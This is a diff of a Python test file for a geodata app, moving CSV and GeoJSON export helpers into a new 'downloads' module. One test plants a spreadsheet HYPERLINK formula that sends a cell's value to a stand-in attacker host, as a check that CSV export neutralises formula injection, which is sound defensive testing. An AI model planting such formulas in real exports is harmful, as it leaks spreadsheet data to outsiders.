@@ -16,10 +16,9 @@ import pandas as pd
 import pytest
 from shapely.geometry import Point, box
 
-from geo import tables
+from geo import downloads, tables
 from geo.charts import timeline_chart
 from geo.config import PROJECT_ROOT
-from geo.mapview import STATUS_LABELS
 from geo.records import DATA_FILES as FILES
 from geo.records import Dataset, load_dataset
 from geo.timeline import (
@@ -30,7 +29,7 @@ from geo.timeline import (
     snapshot,
     status_as_of,
 )
-from geo.vocabulary import EVENT_LABELS
+from geo.vocabulary import EVENT_LABELS, STATUS_LABELS
 
 FIXTURE = Path(__file__).resolve().parent / "fixtures" / "valid"
 TODAY = date(2026, 11, 22)
@@ -277,7 +276,7 @@ def test_quote_options():
 
 @DATASETS
 def test_csv_round_trip(dataset: Dataset, tmp_path: Path):
-    files = tables.dataset_csvs(dataset)
+    files = downloads.dataset_csvs(dataset)
     sessions = ["sessions.csv"] if dataset.sessions else []
     assert list(files) == [spec.name for spec in FILES] + sessions
     for name in sessions:
@@ -309,7 +308,7 @@ def test_csv_quotes_every_field_and_neutralises_a_formula_that_got_past_the_vali
     evil = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
     forged = quote.model_construct(**{**quote.model_dump(), "speaker": evil, "role": "@x"})
     place = FX.jurisdictions[0]
-    text = tables.records_csv([forged], FILES[2]).decode("utf-8")
+    text = downloads.records_csv([forged], FILES[2]).decode("utf-8")
     lines = text.splitlines()
     assert lines[0] == ",".join(f'"{name}"' for name in FILES[2].columns)
     row = next(csv.DictReader(io.StringIO(text)))
@@ -318,7 +317,7 @@ def test_csv_quotes_every_field_and_neutralises_a_formula_that_got_past_the_vali
     assert all(
         field.startswith('"') for field in next(csv.reader([lines[1]], quoting=csv.QUOTE_NONE))
     )
-    places = tables.records_csv([place], FILES[0]).decode("utf-8")
+    places = downloads.records_csv([place], FILES[0]).decode("utf-8")
     assert next(csv.DictReader(io.StringIO(places)))["lon"] == str(place.lon)
 
 
@@ -333,7 +332,7 @@ def test_csv_of_the_fixture_equals_the_file_row_for_row():
     """The fixture is written the way the CSV writer writes; the download is the same text."""
     for spec in FILES:
         original = list(csv.reader(io.StringIO((FIXTURE / spec.name).read_text("utf-8"))))
-        written = tables.dataset_csvs(FX)[spec.name].decode("utf-8")
+        written = downloads.dataset_csvs(FX)[spec.name].decode("utf-8")
         assert list(csv.reader(io.StringIO(written))) == original
 
 
@@ -345,7 +344,7 @@ def test_csv_of_the_fixture_equals_the_file_row_for_row():
     ],
 )
 def test_file_name(kind, on, extension, expected):
-    assert tables.file_name(kind, on, extension) == expected
+    assert downloads.file_name(kind, on, extension) == expected
 
 
 # --- GeoJSON download ------------------------------------------------------------------------
@@ -364,7 +363,7 @@ def read_geojson(data: bytes) -> gpd.GeoDataFrame:
 @pytest.mark.parametrize("year", [2019, 2020, 2023])
 def test_geojson_one_feature_per_place_with_its_status(year: int):
     on = date(year, 12, 31)
-    frame = read_geojson(tables.status_geojson(FX, on, POLYGONS))
+    frame = read_geojson(downloads.status_geojson(FX, on, POLYGONS))
     assert sorted(frame["id"]) == sorted(j.id for j in FX.jurisdictions)
     statuses = status_as_of(FX, on)
     for _, row in frame.iterrows():
@@ -376,7 +375,7 @@ def test_geojson_one_feature_per_place_with_its_status(year: int):
 
 
 def test_geojson_geometry_is_the_polygon_else_the_point():
-    frame = read_geojson(tables.status_geojson(FX, TODAY, POLYGONS)).set_index("id")
+    frame = read_geojson(downloads.status_geojson(FX, TODAY, POLYGONS)).set_index("id")
     assert frame.loc["ca-oakland", "geometry"].equals(POLYGONS["ca-oakland"])
     assert frame.loc["ca-state", "geometry"].geom_type == "Polygon"
     boston = FX.jurisdiction("ma-boston")
@@ -385,7 +384,7 @@ def test_geojson_geometry_is_the_polygon_else_the_point():
 
 
 def test_geojson_properties_come_from_the_data():
-    raw = json.loads(tables.status_geojson(FX, date(2020, 12, 31), POLYGONS))
+    raw = json.loads(downloads.status_geojson(FX, date(2020, 12, 31), POLYGONS))
     props = {f["properties"]["id"]: f["properties"] for f in raw["features"]}
     assert set(props["ca-oakland"]) == {
         "id", "name", "level", "state", "geoid", "role", "status", "status_label", "marks",
@@ -417,7 +416,7 @@ def test_geojson_properties_come_from_the_data():
 
 
 def test_geojson_can_leave_out_non_us_bodies():
-    raw = json.loads(tables.status_geojson(FX, TODAY, {}, include_non_us=False))
+    raw = json.loads(downloads.status_geojson(FX, TODAY, {}, include_non_us=False))
     ids = {f["properties"]["id"] for f in raw["features"]}
     assert ids == {j.id for j in FX.jurisdictions if j.is_us}
 
@@ -431,7 +430,7 @@ def test_geojson_on_real_data_with_real_boundaries(app_env):
     polygons = boundaries.polygons.to_crs(4326)
     shapes = dict(zip(polygons.index, polygons.geometry, strict=True))
     on = date(2020, 12, 31)
-    frame = read_geojson(tables.status_geojson(REAL, on, shapes)).set_index("id")
+    frame = read_geojson(downloads.status_geojson(REAL, on, shapes)).set_index("id")
     assert sorted(frame.index) == sorted(j.id for j in REAL.jurisdictions)
     statuses = status_as_of(REAL, on)
     got = {jid: (s if isinstance(s, str) else None) for jid, s in frame["status"].items()}
@@ -489,8 +488,10 @@ def test_contains(needle, haystacks, expected):
 
 
 def test_table_key_and_row_selection():
-    assert tables.table_key("t", ["a", "b"]) == tables.table_key("t", ["a", "b"])
-    assert tables.table_key("t", ["a", "b"]) != tables.table_key("t", ["a"])
+    from geo.ui.state import table_key
+
+    assert table_key("t", ["a", "b"]) == table_key("t", ["a", "b"])
+    assert table_key("t", ["a", "b"]) != table_key("t", ["a"])
     assert tables.row_selection(["a", "b"], "b") == {"selection": {"rows": [1], "columns": []}}
     assert tables.row_selection(["a", "b"], "c")["selection"]["rows"] == []
     assert tables.row_selection(["a"], None)["selection"]["rows"] == []
